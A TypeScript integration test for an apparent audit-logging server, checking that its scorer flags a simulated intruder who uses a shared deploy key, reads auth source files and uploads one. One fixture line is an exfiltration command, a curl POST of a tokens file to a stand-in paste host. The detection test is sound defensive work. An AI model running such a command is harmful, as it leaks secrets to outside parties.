// The significance scenario end to end: sessions recorded through the recorder, delivered to a
// server this test starts, on SQLite and on PostgreSQL.
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type AuditlaneClient,
  createClient,
  type EventInput,
  type Session,
  type SessionStartInput,
} from '@auditlane/client';
import { createRecorder, MemorySink } from '@auditlane/recorder';
import {
  PERMISSIONS,
  PostgresStore,
  type RunningServer,
  SqliteStore,
  type Store,
  startServer,
} from '@auditlane/server';
import { type Cluster, startCluster } from '@auditlane/testing/postgres-cluster';
import { rng } from '@auditlane/testing/random';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const DAY = 86_400_000;
const T0 = Date.UTC(2026, 9, 1, 8, 0, 0);
const KEY = {
  kind: 'api_key' as const,
  fingerprint: 'sk-live-...9F2A',
  name: 'deploy key',
};
const STAGING = { name: 'app-server', type: 'ssh' as const, environment: 'staging' as const };
const SCENARIO = ['new_outbound_host', 'sensitive_files', 'shared_credential', 'unknown_actor'];

interface Server {
  server: RunningServer;
  client: AuditlaneClient;
  close(): Promise<void>;
}

let cluster: Cluster | undefined;

async function openServer(kind: 'sqlite' | 'postgres'): Promise<Server> {
  let store: Store;
  let drop: () => Promise<void>;
  if (kind === 'sqlite') {
    const dir = mkdtempSync(join(tmpdir(), 'auditlane-significance-'));
    const sqlite = new SqliteStore({ filename: join(dir, 'test.db') });
    store = sqlite;
    drop = async () => {
      await sqlite.close();
      rmSync(dir, { recursive: true, force: true });
    };
  } else {
    cluster ??= process.env.AUDITLANE_TEST_POSTGRES_URL
      ? { url: process.env.AUDITLANE_TEST_POSTGRES_URL, stop() {} }
      : await startCluster();
    const name = `auditlane_sig_${randomBytes(6).toString('hex')}`;
    const admin = new pg.Client({ connectionString: cluster.url });
    await admin.connect();
    await admin.query(`CREATE DATABASE ${name}`);
    const url = new URL(cluster.url);
    url.pathname = `/${name}`;
    const postgres = await PostgresStore.open({ connectionString: url.toString(), max: 4 });
    store = postgres;
    drop = async () => {
      await postgres.close();
      await admin.query(`DROP DATABASE ${name} WITH (FORCE)`);
      await admin.end();
    };
  }
  const server = await startServer({ store, port: 0 });
  const { token } = await store.createToken({
    org: 'acme',
    name: 'admin',
    permissions: [...PERMISSIONS],
  });
  return {
    server,
    client: createClient({ baseUrl: server.url, token, retries: 0 }),
    async close() {
      await server.close();
      await drop();
    },
  };
}

/**
 * Records the org's month through the recorder: a named user on the deploy key, forty routine
 * sessions, then an unknown actor on a bare IP using the same key, reading auth code and calling
 * a host nobody called before. Returns every event the recorder produced, by phase.
 */
function recordScenario() {
  let clock = T0;
  const sink = new MemorySink();
  const recorder = createRecorder({ sink, policy: false, now: () => clock });
  const at = (t: number) => {
    clock = t;
  };
  const session = (meta: Partial<SessionStartInput>, t: number) => {
    at(t);
    return recorder.session({ mode: 'interactive', resource: STAGING, ...meta });
  };

  const alice = session(
    {
      actor: { type: 'human', id: 'u_alice', email: 'alice@acme.test', name: 'Alice' },
      credential: KEY,
      endpoint: 'alice-laptop.acme.test',
    },
    T0,
  );
  at(T0 + 60_000);
  const pull = alice.command({ text: 'git pull origin main', exitCode: 0 });
  alice.outbound({ protocol: 'ssh', host: 'github.com', port: 22, subjectId: pull });
  alice.file({ path: '/srv/app/README.md', operation: 'read', subjectId: pull });
  alice.end({ exitCode: 0 });
  const aliceEvents = sink.events.length;

  const routine: string[] = [];
  for (let i = 0; i < 40; i++) {
    const dev = i % 4;
    const s = session(
      {
        actor: { type: 'human', id: `u_dev${dev}`, email: `dev${dev}@acme.test` },
        endpoint: `dev${dev}-laptop.acme.test`,
      },
      T0 + DAY + i * 12 * 3_600_000,
    );
    routine.push(s.id);
    clock += 30_000;
    const status = s.command({ text: 'git status', exitCode: 0 });
    s.file({ path: '/srv/app/src/index.ts', operation: 'read', subjectId: status });
    const fetch = s.command({ text: 'git fetch', exitCode: 0 });
    s.outbound({ protocol: 'ssh', host: 'github.com', port: 22, subjectId: fetch });
    s.command({ text: 'npm test', exitCode: 0 });
    s.end({ exitCode: 0 });
  }
  const routineEvents = sink.events.length;

  const intruder = session(
    { actor: { type: 'human', id: 'ext_7' }, credential: KEY, endpoint: '203.0.113.9' },
    T0 + 22 * DAY,
  );
  const startId = sink.events.at(-1)!.id;
  clock += 20_000;
  const cat = intruder.command({ text: 'cat src/auth/session.ts src/auth/tokens.ts', exitCode: 0 });
  const sessionFile = intruder.file({
    path: '/srv/app/src/auth/session.ts',
    operation: 'read',
    subjectId: cat,
  });
  const tokensFile = intruder.file({
    path: '/srv/app/src/auth/tokens.ts',
    operation: 'read',
    subjectId: cat,
  });
  clock += 20_000;
  const curl = intruder.command({
    text: 'curl -X POST --data-binary @src/auth/tokens.ts https://paste.example.net/upload',
    exitCode: 0,
  });
  const upload = intruder.outbound({
    protocol: 'https',
    host: 'paste.example.net',
    method: 'POST',
    url: 'https://paste.example.net/upload',
    status: 201,
    subjectId: curl,
  });
  intruder.end({ exitCode: 0 });

  const events = [...sink.events] as EventInput[];
  return {
    events,
    before: events.slice(0, routineEvents),
    after: events.slice(routineEvents),
    aliceEvents,
    ids: { alice: alice.id, routine, intruder: intruder.id },
    evidence: { startId, sessionFile, tokensFile, upload },
  };
}

async function deliver(client: AuditlaneClient, events: EventInput[], size = 200) {
  for (let i = 0; i < events.length; i += size) {
    const result = await client.ingest(events.slice(i, i + size));
    expect(result.rejected).toEqual([]);
  }
}

async function significance(s: Server, ids: string[]) {
  await s.server.scorer.idle();
  const out = new Map<string, Session['significance']>();
  for (const id of ids) out.set(id, (await s.client.sessions.get(id)).significance);
  return out;
}

afterAll(() => {
  cluster?.stop();
});

describe.each(['sqlite', 'postgres'] as const)('significance on %s', (kind) => {
  const scenario = recordScenario();
  const all = [scenario.ids.alice, ...scenario.ids.routine, scenario.ids.intruder];
  let s: Server;
  beforeAll(async () => {
    s = await openServer(kind);
  });
  afterAll(async () => {
    await s?.close();
  });

  it("ranks the unknown actor on the shared key first with exactly its reasons, keeps routine in the background, and gives the key owner's earlier session shared_credential", async () => {
    await deliver(s.client, scenario.before);
    const earlier = await significance(s, [scenario.ids.alice]);
    expect(earlier.get(scenario.ids.alice)!.reasons.map((r) => r.code)).not.toContain(
      'shared_credential',
    );

    await deliver(s.client, scenario.after);
    const scores = await significance(s, all);
    const intruder = scores.get(scenario.ids.intruder)!;
    expect(intruder.reasons.map((r) => r.code).sort()).toEqual(SCENARIO);
    const reason = Object.fromEntries(intruder.reasons.map((r) => [r.code, r]));
    const { startId, sessionFile, tokensFile, upload } = scenario.evidence;
    expect(reason.unknown_actor!.evidence).toEqual({
      events: [startId],
      entities: ['actor:ext_7', 'endpoint:203.0.113.9'],
    });
    expect(reason.shared_credential!.evidence).toEqual({
      events: [startId],
      entities: ['credential:sk-live-...9F2A', 'actor:u_alice'],
    });
    expect(reason.sensitive_files!.evidence).toEqual({
      events: [sessionFile, tokensFile],
      entities: ['file:/srv/app/src/auth/session.ts', 'file:/srv/app/src/auth/tokens.ts'],
    });
    expect(reason.new_outbound_host!.evidence).toEqual({
      events: [upload],
      entities: ['host:paste.example.net'],
    });
    expect(intruder.score).toBeGreaterThanOrEqual(80);

    const ranked = await s.client.sessions.list({ sort: 'significance', limit: 5 });
    expect(ranked.data[0]!.id).toBe(scenario.ids.intruder);

    for (const id of scenario.ids.routine) {
      const routine = scores.get(id)!;
      expect(routine.score).toBeLessThan(20);
      expect(routine.reasons.map((r) => r.code).filter((c) => SCENARIO.includes(c))).toEqual([]);
    }
    const alice = scores.get(scenario.ids.alice)!;
    expect(alice.reasons.find((r) => r.code === 'shared_credential')!.evidence).toEqual({
      events: [scenario.events[0]!.id],
      entities: ['credential:sk-live-...9F2A', 'actor:ext_7'],
    });
    // The list finds them by the key and by the reason.
    const onKey = await s.client.sessions.list({
      entity: ['credential:sk-live-...9F2A'],
      sort: 'significance',
    });
    expect(onKey.data.map((x) => x.id)).toEqual([scenario.ids.intruder, scenario.ids.alice]);
    const shared = await s.client.sessions.list({ reason: ['shared_credential'] });
    expect(new Set(shared.data.map((x) => x.id))).toEqual(
      new Set([scenario.ids.intruder, scenario.ids.alice]),
    );
  });

  it('gives the same scores when the same events arrive in another order and batching', async () => {
    const other = await openServer(kind);
    try {
      const random = rng(15);
      const starts = scenario.events.filter((e) => e.seq === 0);
      const rest = scenario.events.filter((e) => e.seq !== 0);
      for (const list of [starts, rest]) {
        for (let i = list.length - 1; i > 0; i--) {
          const j = Math.floor(random() * (i + 1));
          [list[i], list[j]] = [list[j]!, list[i]!];
        }
      }
      const shuffled = [...starts, ...rest];
      for (let i = 0; i < shuffled.length; ) {
        const n = 1 + Math.floor(random() * 40);
        const result = await other.client.ingest(shuffled.slice(i, i + n));
        expect(result.rejected).toEqual([]);
        i += n;
      }
      const expected = await significance(s, all);
      const got = await significance(other, all);
      expect(Object.fromEntries(got)).toEqual(Object.fromEntries(expected));
    } finally {
      await other.close();
    }
  });
});
